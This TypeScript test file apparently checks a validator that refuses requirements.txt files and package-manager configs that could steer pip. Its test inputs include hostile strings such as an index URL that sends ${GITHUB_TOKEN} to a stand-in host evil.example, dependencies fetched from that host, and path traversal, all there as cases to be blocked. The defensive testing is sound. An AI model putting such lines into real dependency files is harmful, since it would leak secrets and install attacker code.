import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test, type TestContext } from 'node:test'
import { refuseOwnSettings } from './own-settings.ts'

function folder(t: TestContext, file: string, text: string): string {
  const made = mkdtempSync(join(tmpdir(), 'slipway-own-settings-'))
  t.after(() => rmSync(made, { recursive: true, force: true }))
  writeFileSync(join(made, file), text)
  return made
}

const steering = [
  '--index-url https://evil.example/${GITHUB_TOKEN}/simple',
  '-i https://evil.example',
  '--no-binary :all:',
  'good\n-e .',
  'good --global-option=x',
  'good \\\n --config-settings=x=y',
  './src',
  'src/x.whl',
  'x-1.tar.gz',
  'x.zip[extra]',
  'x @ https://evil.example/x.tar.gz',
  'x==1.0; python_version > "${HOME}"',
  'git+https://evil.example/x',
  'https://evil.example/x.tar.gz',
  '-r ../../other.txt',
  'good\u2028--pre',
]

for (const text of steering)
  test(`requirements with ${JSON.stringify(text)} configure pip, and are refused`, (t) => {
    assert.throws(() => refuseOwnSettings(folder(t, 'requirements.txt', text)), { code: 'install/bad-plugin' })
  })

const plain = [
  'pulumi>=3,<4  # the SDK\n\n# more\nrequests[socks, security] ~= 2.0',
  'x==1.0 \\\n    --hash=sha256:0a1b \\\n    --hash=sha256:2c3d\n--require-hashes',
  'old; python_version < "3.8" and sys_platform == "linux"\r\nplain\r\nparens (>=1.0)',
]

for (const text of plain)
  test(`requirements with ${JSON.stringify(text)} are accepted`, (t) => {
    refuseOwnSettings(folder(t, 'requirements.txt', text))
  })

for (const file of ['.npmrc', 'pnpm-workspace.yaml', 'uv.toml', 'poetry.toml'])
  test(`${file} configures a package manager, and is refused`, (t) => {
    assert.throws(() => refuseOwnSettings(folder(t, file, '')), { code: 'install/bad-plugin' })
  })
